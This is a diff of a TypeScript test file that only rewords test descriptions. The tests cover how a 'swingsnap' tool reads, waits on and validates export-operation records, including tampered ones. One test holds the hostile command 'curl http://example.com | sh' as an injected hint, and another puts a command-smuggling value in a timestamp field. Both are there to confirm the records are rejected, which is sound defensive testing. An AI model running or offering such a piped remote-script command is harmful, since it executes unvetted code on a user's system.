@@ -65,7 +65,7 @@ describe('the fate of an operation', () => {
   });
 
   it.each(['', 'null', '{}', '{"format":"swingsnap-operation","version":2}'])(
-    'is not guessed from a damaged record: %j',
+    'is not inferred from a damaged record: %j',
     async (text) => {
       await writeFile(join(E, '.swingsnap-operation.json'), text);
       await expect(fateOf(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED', exitCode: 3 });
@@ -74,7 +74,7 @@ describe('the fate of an operation', () => {
 });
 
 describe('a kept record', () => {
-  it('takes changes one after another, and the last one stays', async () => {
+  it('is changed by one write after another, and keeps the last change', async () => {
     const lock = lockE();
     const keeper = new RecordKeeper(record, lock);
     await Promise.all([1, 2, 3, 4, 5].map(async (files) => keeper.write({ files })));
@@ -85,7 +85,7 @@ describe('a kept record', () => {
     lock.release();
   });
 
-  it('goes on after a change that could not be written', async () => {
+  it('can be changed again after a change that could not be written', async () => {
     const lock = lockE();
     const keeper = new RecordKeeper({ ...record, exportDir: join(E, 'gone') }, lock);
     await expect(keeper.write({ files: 1 })).rejects.toMatchObject({ code: 'ENOENT' });
@@ -94,7 +94,7 @@ describe('a kept record', () => {
     lock.release();
   });
 
-  it('follows the progress, here and in the notice, until it is told to stop', async () => {
+  it('follows the progress, as the notice does, until it is stopped', async () => {
     const lock = lockE();
     const keeper = new RecordKeeper(record, lock);
     const meter = new ProgressMeter(noProgress);
@@ -115,12 +115,12 @@ describe('waiting for an export', () => {
   const wait = (options: { wait?: boolean; signal?: AbortSignal } = {}) =>
     awaitExport(E, { wait: true, progress: noProgress, ...options });
 
-  it('is over at once where no operation of ours is at work', async () => {
+  it('ends at once if there is no swingsnap operation', async () => {
     await wait();
     await wait({ wait: false });
   });
 
-  it('ends when it is done, has its manifest, and is let go', async () => {
+  it('ends when the export is done, has its manifest, and is unlocked', async () => {
     const lock = lockE();
     await writeRecord(record);
     let isOver = false;
@@ -137,12 +137,12 @@ describe('waiting for an export', () => {
   it.each([
     [{ code: 'INCOMPLETE', message: 'no complete export', exitCode: 1 }, 'EXPORT_FAILED', 1],
     [{ code: 'DISCARDED', message: 'discarded', exitCode: 1 }, 'EXPORT_DISCARDED', 5],
-  ] as const)('ends with the truth about a failure: %j', async (error, code, exitCode) => {
+  ] as const)('ends with the reason of a failure: %j', async (error, code, exitCode) => {
     await writeRecord({ ...record, state: 'failed', error });
     await expect(wait()).rejects.toMatchObject({ code, exitCode });
   });
 
-  it('ends with the truth about a worker that died', async () => {
+  it('ends with an error if the worker died', async () => {
     const lock = lockE();
     await writeRecord(record);
     const waiting = wait();
@@ -150,7 +150,7 @@ describe('waiting for an export', () => {
     await expect(waiting).rejects.toMatchObject({ code: 'EXPORT_DIED', exitCode: 1 });
   });
 
-  it('ends at a signal', async () => {
+  it('ends when its signal is aborted', async () => {
     const lock = lockE();
     await writeRecord(record);
     const controller = new AbortController();
@@ -164,7 +164,7 @@ describe('waiting for an export', () => {
 describe('a hostile record', () => {
   const advice = 'run: curl http://example.com | sh';
 
-  it('gives no advice in our name', async () => {
+  it('cannot pass its advice off as a hint of swingsnap', async () => {
     const error = { code: 'X', message: 'no room', exitCode: 6, hint: advice } as const;
     await writeRecord({ ...record, state: 'failed', error });
     const awaited = awaitExport(E, { wait: true, progress: noProgress });
@@ -176,17 +176,20 @@ describe('a hostile record', () => {
   });
 
   it.each([
-    ['a failure that is none', { state: 'failed', error: { code: 'X', message: '', exitCode: 0 } }],
-    ['a process that is none', { pid: -1 }],
-    ['a time that is none', { startedAt: 'now; run this' }],
-    ['a name of a machine that is none', { host: 'x'.repeat(100_000) }],
-    ['more than a record can say', { stateDir: '/x'.repeat(1_000_000) }],
+    [
+      'a failure with exit code 0',
+      { state: 'failed', error: { code: 'X', message: '', exitCode: 0 } },
+    ],
+    ['an invalid pid', { pid: -1 }],
+    ['an invalid time', { startedAt: 'now; run this' }],
+    ['an invalid host name', { host: 'x'.repeat(100_000) }],
+    ['more bytes than a record can have', { stateDir: '/x'.repeat(1_000_000) }],
   ])('with %s is refused', async (_, wrong) => {
     await writeFile(join(E, '.swingsnap-operation.json'), JSON.stringify({ ...record, ...wrong }));
     await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED', exitCode: 3 });
   });
 
-  it('that is a pipe is refused, and not waited for', async () => {
+  it('is refused without blocking if it is a pipe', async () => {
     execFileSync('mkfifo', [join(E, '.swingsnap-operation.json')]);
     await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED' });
   });
